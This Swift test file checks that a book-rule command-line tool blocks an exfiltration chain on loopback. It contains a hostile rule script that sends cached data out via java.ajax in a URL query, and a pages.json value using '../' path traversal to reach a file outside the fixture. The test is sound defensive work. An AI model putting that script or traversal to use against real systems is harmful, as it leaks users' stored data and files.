import Foundation
import Testing
import TestSupport

/// The exfiltration chain of issue #21 on loopback: a fixture's pages.json names a file outside it, a rule
/// keeps what it read with `cache.put`, and a later live run sends `cache.get` to the site.
@Suite("Hostile fixtures on the command line", .timeLimit(.minutes(2 * TestTime.scale)))
struct HostileFixtureTests {
    /// A source whose TOC script first sends what the cache holds to the site, then keeps the page it read.
    static func source(port: UInt16) -> String {
        #"""
        {"bookSourceName": "Cache thief", "bookSourceUrl": "http://127.0.0.1:\#(port)",
         "ruleToc": {
           "chapterList": "//li<js>java.ajax('http://127.0.0.1:\#(port)/x?d=' + encodeURIComponent(String(cache.get('k')))); cache.put('k', String(src)); result</js>",
           "chapterName": "//a/text()", "chapterUrl": "//a/@href"}}
        """#
    }

    @Test("a pages.json naming a file outside the fixture is refused with the path named, and what a script keeps from saved pages never reaches a live run")
    func savedSecretNeverLeavesInALiveRun() async throws {
        let scratch = try ScratchDirectory("hostile")
        let root = scratch.path
        try FileManager.default.createDirectory(atPath: root + "/fixture", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: root + "/outside", withIntermediateDirectories: true)
        try "<ul><li><a href='/c/1'>OUTSIDE-SECRET</a></li></ul>".write(toFile: root + "/outside/secret.txt", atomically: true, encoding: .utf8)
        try "<ul><li><a href='/c/1'>FIXTURE-SECRET</a></li></ul>".write(toFile: root + "/fixture/toc.html", atomically: true, encoding: .utf8)

        let server = try LoopbackServer(maxConnections: 8, lifetime: 60) { request, _ in
            if request.target.hasPrefix("/toc") {
                return LoopbackServer.reply(200, "OK", headers: [("Content-Type", "text/html")],
                                            body: Array("<ul><li><a href='/c/1'>live</a></li></ul>".utf8))
            }
            return LoopbackServer.reply(request.target.hasPrefix("/x") ? 200 : 404, "OK")
        }
        let tocURL = "http://127.0.0.1:\(server.port)/toc"
        try Self.source(port: server.port).write(toFile: root + "/source.json", atomically: true, encoding: .utf8)
        let environment = ["XDG_DATA_HOME": root + "/data"]
        let toc = ["bookrule", "toc", "--source", root + "/source.json", "--toc-url", tocURL]

        try #"{"\#(tocURL)": "../outside/secret.txt"}"#.write(toFile: root + "/fixture/pages.json", atomically: true, encoding: .utf8)
        let refused = try await runBash(["-c", #""$@""#, "bash"] + toc + ["--saved-dir", root + "/fixture"], environment: environment)
        #expect(refused.status != 0)
        #expect(refused.output.contains("../outside/secret.txt: refused: it leads to "), "\(refused.output)")
        #expect(refused.output.contains("outside the fixture directory"), "\(refused.output)")
        #expect(!refused.output.contains("OUTSIDE-SECRET"))

        try #"{"\#(tocURL)": "toc.html"}"#.write(toFile: root + "/fixture/pages.json", atomically: true, encoding: .utf8)
        let offline = try await runBash(["-c", #""$@""#, "bash"] + toc + ["--saved-dir", root + "/fixture"], environment: environment)
        #expect(offline.status == 0, "\(offline.output)")
        #expect(offline.output.contains("FIXTURE-SECRET"))

        let live = try await runBash(["-c", #""$@""#, "bash"] + toc + ["--delay", "0"], environment: environment)
        #expect(live.status == 0, "\(live.output)")
        let sent = server.requests.map(\.target)
        #expect(sent.contains { $0.hasPrefix("/x?d=") }, "\(sent)")
        #expect(!sent.contains { $0.contains("SECRET") }, "\(sent)")
        // The live run found nothing in the cache: the offline runs kept nothing there.
        #expect(sent.contains("/x?d=null"), "\(sent)")
    }
}
